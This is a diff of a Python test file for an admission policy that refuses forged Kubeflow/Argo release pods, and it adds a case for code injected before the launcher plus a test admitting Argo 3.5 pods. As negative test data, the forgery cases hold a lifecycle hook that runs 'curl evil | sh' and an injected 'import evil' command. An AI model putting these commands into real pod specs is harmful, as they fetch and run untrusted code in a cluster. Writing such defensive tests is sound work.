@@ -395,6 +395,7 @@ def test_each_compiled_step_runs_as_the_identity_its_code_is_allowed(env, built,
         "code-mounted-over-dot-local",
         "post-start-hook",
         "extra-container",
+        "emissary-runs-other-code-before-the-launcher",
     ],
 )
 def test_a_pipeline_that_sets_the_release_identity_but_runs_other_code_is_refused(forgery, built, sources):
@@ -437,11 +438,23 @@ def test_a_pipeline_that_sets_the_release_identity_but_runs_other_code_is_refuse
         elif forgery == "post-start-hook":
             main["lifecycle"] = {"postStart": {"exec": {"command": ["sh", "-c", "curl evil | sh"]}}}
             why = "no lifecycle hooks"
+        elif forgery == "emissary-runs-other-code-before-the-launcher":  # a Workflow written by hand
+            main["command"][8:8] = ["python3", "-c", "import evil"]
+            why = "emissary running KFP's launcher"
         elif forgery == "extra-container":
             pod["spec"]["containers"].append({"name": "helper", "image": main["image"], "command": ["sh"]})
             why = "exactly the containers"
     message = refused(cluster, pod)
     assert "kfrelease-step-identity" in message and why in message, message
+
+
+def test_the_release_pod_of_argo_3_5_kubeflow_1_10_is_admitted_too(built, sources):
+    """Argo v3.5 (kubeflow/manifests v1.10.x: argoexec v3.5.14) writes no ``--gloglevel`` before the emissary's
+    ``--`` (``getExecutorLogOpts``), so the launcher sits two places earlier in ``main``'s command."""
+    from tests.cluster_standin.executor_pod import ARGO_LOG_35
+
+    pod = release_pod("staging", sources, argo_log=tuple(ARGO_LOG_35))
+    assert Cluster(built["staging"]).create_pod(ARGO_CONTROLLER, pod)["spec"]["serviceAccountName"] == RELEASE_DRIVER_SA
 
 
 def test_the_release_pod_as_argo_creates_it_is_admitted_and_nobody_else_may_create_or_change_it(built, sources):
